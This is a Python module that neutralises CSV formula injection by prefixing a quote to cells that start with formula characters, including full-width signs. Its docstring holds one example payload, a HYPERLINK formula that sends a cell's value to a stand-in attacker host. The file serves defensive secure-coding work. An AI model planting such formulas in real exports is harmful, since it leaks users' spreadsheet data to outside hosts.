"""CSV cells that a spreadsheet opens as text, never as a formula (OWASP: CSV injection).

Excel, LibreOffice and Google Sheets evaluate a cell that begins with `=`, `+`, `-` or `@` (and
after a tab, a carriage return or a NUL) as a formula: a curated name such as
`=HYPERLINK("http://evil.example/?x="&A1,"Click me")` would become a live link in the reader's
spreadsheet. Such a cell is written with a leading `'`, which spreadsheets read as "this is
text" and do not show. The full-width signs (＝＋－＠), which East Asian input methods type and
some spreadsheets read as the ASCII ones, and a sign after leading spaces are treated the same.
Only downloads meant for spreadsheets do this: JSON and the pages keep the text exactly.
"""

import csv

FORMULA_STARTS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
LEADING_SPACES = " \u00a0\u3000"


def spreadsheet_text(value):
    """`value`, with a leading `'` if it is text a spreadsheet would read as a formula."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_STARTS or value.lstrip(LEADING_SPACES)[:1] in FORMULA_STARTS:
        return "'" + value
    return value


class SpreadsheetSafeWriter:
    """csv.writer whose text cells go through `spreadsheet_text`; numbers are left as numbers."""

    def __init__(self, stream, **options):
        self.writer = csv.writer(stream, **options)

    def writerow(self, row):
        return self.writer.writerow([spreadsheet_text(cell) for cell in row])
